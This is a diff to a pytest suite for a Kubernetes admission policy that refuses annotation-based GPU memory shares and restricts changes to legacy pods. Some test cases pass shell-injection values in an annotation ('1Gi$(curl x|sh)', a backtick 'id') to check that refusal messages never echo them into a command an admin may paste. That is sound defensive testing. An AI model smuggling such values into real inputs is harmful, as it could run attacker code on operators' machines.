@@ -6,6 +6,7 @@ why and what to do instead; a claim share is admitted; extender.annotationShares
 annotation shares again."""
 from __future__ import annotations
 
+import re
 import time
 
 import pytest
@@ -27,12 +28,26 @@ INSTEAD = "ResourceClaimTemplate of DeviceClass gpu.gpusched.io"
 VALUE = "extender.annotationShares=true"
 
 
+LEGACY_NS = "default"
+LEGACY = f"legacy-share-{time.monotonic_ns() % 10**9}"
+QUANTITY = re.compile(r"^[0-9]+(\.[0-9]+)?([KMGTPE]i?)?$")
+
+
 @pytest.fixture(scope="module")
 def refusing(cluster):
+    # a pod made while annotation shares were still on (the helper's default), before the policy
+    client.CoreV1Api(cluster.api_client()).create_namespaced_pod(LEGACY_NS, pod(LEGACY, {contract.GPU_MEMORY: "1Gi"}))
     manifests.apply(cluster, annotation_shares=False)  # the chart's defaults, as they are
     assert manifests.one("ValidatingAdmissionPolicy", manifests.ANNOTATION_SHARES_POLICY)
     yield
     manifests.allow_annotation_shares(cluster)  # the rest of the session places annotation shares
+    client.CoreV1Api(cluster.api_client()).delete_namespaced_pod(LEGACY, LEGACY_NS, grace_period_seconds=0)
+
+
+def echoed(value: str) -> str:
+    """What the message may echo of the tenant's value: a plain quantity, else a placeholder
+    (it lands in an Event, inside a command an admin may paste)."""
+    return value if len(value) <= 32 and QUANTITY.match(value) else "<quantity>"
 
 
 @pytest.fixture
@@ -67,6 +82,8 @@ CREATES = [
     ("tenant", {contract.GPU_MEMORY: "20Gi", "example.com/team": "a"}, 403),
     ("admin", {contract.GPU_MEMORY: "38Gi"}, 403),
     ("tenant", {contract.GPU_MEMORY: "9" * 40 + "Gi"}, 403),  # not echoed: too long to be a quantity
+    ("tenant", {contract.GPU_MEMORY: "1Gi$(curl x|sh)"}, 403),  # not echoed: not a quantity
+    ("tenant", {contract.GPU_MEMORY: "1.5Gi`id`"}, 403),
     ("tenant", {"example.com/team": "a"}, 200),  # no share: not this policy's business
 ]
 
@@ -78,7 +95,7 @@ def test_an_annotation_share_is_refused_with_what_to_do_instead(cluster, core, t
                                                                         annotations)))
     assert got == want, why
     if want == 403:
-        memory = annotations[contract.GPU_MEMORY] if len(annotations[contract.GPU_MEMORY]) <= 32 else "<quantity>"
+        memory = echoed(annotations[contract.GPU_MEMORY])
         for part in (WHY, ALLOCATOR, INSTEAD, f"gpusched claim-template --memory {memory}", VALUE):
             assert part in why, (part, why)
 
@@ -91,6 +108,47 @@ def test_the_annotation_added_to_a_pending_pod_is_refused(cluster, tenant_ns):
     assert got == 403 and INSTEAD in why, why
     got, why = status(lambda: tenant.patch_namespaced_pod("later", tenant_ns, {"metadata": {"labels": {"x": "y"}}}))
     assert got == 200, why
+
+
+def test_the_annotation_added_through_pods_status_is_refused(cluster, core, tenant_ns):
+    """The pod status strategy keeps metadata changes made through pods/status."""
+    core.create_namespaced_pod(tenant_ns, pod("via-status"))
+    got, why = status(lambda: core.patch_namespaced_pod_status(
+        "via-status", tenant_ns, {"metadata": {"annotations": {contract.GPU_MEMORY: "20Gi"}}}))
+    assert got == 403 and INSTEAD in why, why
+    assert contract.GPU_MEMORY not in (core.read_namespaced_pod("via-status", tenant_ns).metadata.annotations or {})
+
+
+# (the legacy pod's new annotations, through pods or pods/status, HTTP status, what the message
+# echoes): a pod made while annotation shares were on ("1Gi") keeps its value or drops it; a
+# changed value would make the extender recount it by the tenant's word
+LEGACY_UPDATES = [
+    ({contract.GPU_MEMORY: "80Gi"}, "pods", 403, "80Gi"),  # grown 1Gi -> 80Gi
+    ({contract.GPU_MEMORY: "1Mi"}, "pods", 403, "1Mi"),  # shrunk
+    ({contract.GPU_MEMORY: "80Gi"}, "pods/status", 403, "80Gi"),
+    ({contract.GPU_MEMORY: "1Gi$(curl x|sh)"}, "pods", 403, "<quantity>"),
+    ({contract.GPU_MEMORY: "1Gi", "example.com/team": "a"}, "pods", 200, None),  # value kept
+]
+
+
+@pytest.mark.parametrize("annotations,via,want,shown", LEGACY_UPDATES)
+def test_a_legacy_pods_value_may_not_change(core, tenant_ns, annotations, via, want, shown):
+    patch = core.patch_namespaced_pod_status if via == "pods/status" else core.patch_namespaced_pod
+    got, why = status(lambda: patch(LEGACY, LEGACY_NS, {"metadata": {"annotations": annotations}}))
+    assert got == want, why
+    if want == 403:
+        assert "may not change" in why and f"--memory {shown}`" in why, why
+        assert "curl" not in why, why
+    assert core.read_namespaced_pod(LEGACY, LEGACY_NS).metadata.annotations[contract.GPU_MEMORY] == "1Gi"
+
+
+def test_a_legacy_pod_may_drop_its_annotation(core, tenant_ns):
+    """Runs after the updates above: dropping the value is allowed (the pod is no longer counted
+    as a share; docs/ownership.md says what legacy pods may do)."""
+    got, why = status(lambda: core.patch_namespaced_pod(
+        LEGACY, LEGACY_NS, {"metadata": {"annotations": {contract.GPU_MEMORY: None}}}))
+    assert got == 200, why
+    assert contract.GPU_MEMORY not in (core.read_namespaced_pod(LEGACY, LEGACY_NS).metadata.annotations or {})
 
 
 def test_a_claim_share_from_the_cli_template_is_admitted(cluster, tenant_ns):
